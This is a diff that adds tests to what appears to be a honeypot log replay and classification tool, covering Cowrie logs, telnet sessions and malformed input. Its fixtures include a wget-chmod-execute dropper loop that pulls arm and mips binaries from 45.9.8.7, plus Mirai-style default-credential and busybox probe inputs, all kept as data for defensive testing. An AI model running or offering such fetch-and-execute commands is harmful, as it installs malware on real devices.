@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from io import BytesIO, TextIOWrapper
 from pathlib import Path
 from typing import Any
 
@@ -77,6 +78,49 @@ def test_a_cowrie_log_is_a_session_for_each_session_that_said_something(played: 
     assert [w["url"] for w in told["wishes"]] == ["http://45.9.8.7/x"]
 
 
+def test_the_cut_last_line_of_a_log_is_left_out_with_a_warning(played: Any) -> None:
+    run = played("\n".join(map(json.dumps, COWRIE)).encode()[:-9])
+    assert (run.code, len(run.conversations)) == (0, 1)
+    assert f"file0:{len(COWRIE)}: the last line is cut off" in run.err
+
+
+DROPPER = b"for a in arm mips; do wget http://45.9.8.7/$a; chmod 777 $a; ./$a; done\necho one\necho two\n"
+
+
+@pytest.mark.parametrize("first", [b"#!/bin/sh\n", b"#!/bin/busybox ash\n", b""])
+def test_a_script_is_commands_and_no_logins(first: bytes, played: Any) -> None:
+    run = played(first + DROPPER)
+    (told,) = run.conversations
+    assert (run.code, told["room"], run.kinds()) == (0, "shell", ["command.entered"] * 3)
+    assert [w["url"] for w in told["wishes"]] == ["http://45.9.8.7/arm", "http://45.9.8.7/mips"]
+
+
+def test_a_script_for_another_interpreter_is_no_shells(played: Any) -> None:
+    (told,) = played(b"#!/usr/bin/python3\nimport os\n").conversations
+    assert told["room"] == "catchall"
+    assert not told["wishes"]
+
+
+def test_lines_that_are_commands_are_no_logins_even_without_a_wish(played: Any) -> None:
+    (told,) = played(b"uname -a\nid\n").conversations
+    assert told["room"] == "catchall"
+    assert [fact["kind"] for fact in told["facts"]] == ["payload.classified", "command.entered", "command.entered"]
+
+
+def test_what_mirai_sends_to_be_told_that_there_is_no_such_thing_is_understood(played: Any) -> None:
+    run = played(b"root\r\nroot\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n")
+    (told,) = run.conversations
+    assert (run.code, told["room"], told["not_understood"]) == (0, "telnet", [])
+    run = played(b"root\r\nroot\r\nenable\r\nECCHI\r\n")
+    assert run.conversations[0]["not_understood"] == ["unknown command: ECCHI"]
+
+
+def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setattr("sys.stdin", TextIOWrapper(BytesIO(JAWS)))
+    assert main(["replay", "-"]) == 0
+    assert capsys.readouterr().out.startswith("-: http\n")
+
+
 def test_what_a_log_saw_downloaded_and_no_room_wished_is_told(played: Any) -> None:
     other = {"eventid": "cowrie.session.file_download", "session": "a1", "url": "http://45.9.8.7/other"}
     run = played("\n".join(map(json.dumps, [*COWRIE, other])).encode())
@@ -108,9 +152,9 @@ def test_a_conversation_cut_off_anywhere_still_plays(played: Any) -> None:
         (b"\xd4\xc3\xb2\xa1" + bytes(40), "pcap files cannot be replayed yet"),
         (b"\x0a\x0d\x0d\x0a" + bytes(40), "pcap files cannot be replayed yet"),
         (conversation.MAGIC + bytes((7, 0, 0, 0, 0, 0, 1)) + b"x", "side 7"),
-        (json.dumps(COWRIE[0]).encode() + b"\n{broken", "file0:2: no JSON"),
+        (json.dumps(COWRIE[0]).encode() + b"\n{broken\n{}", "file0:2: no JSON"),
         (json.dumps(COWRIE[0]).encode() + b"\n[1]", "file0:2: no JSON object"),
-        (json.dumps(COWRIE[0]).encode() + b"\n" + b"[" * 100_000, "file0:2: no JSON"),
+        (json.dumps(COWRIE[0]).encode() + b"\n" + b"[" * 100_000 + b"\n{}", "file0:2: no JSON"),
     ],
 )
 def test_what_cannot_be_read_is_named_and_stops_nothing_else(content: bytes, reason: str, played: Any) -> None:
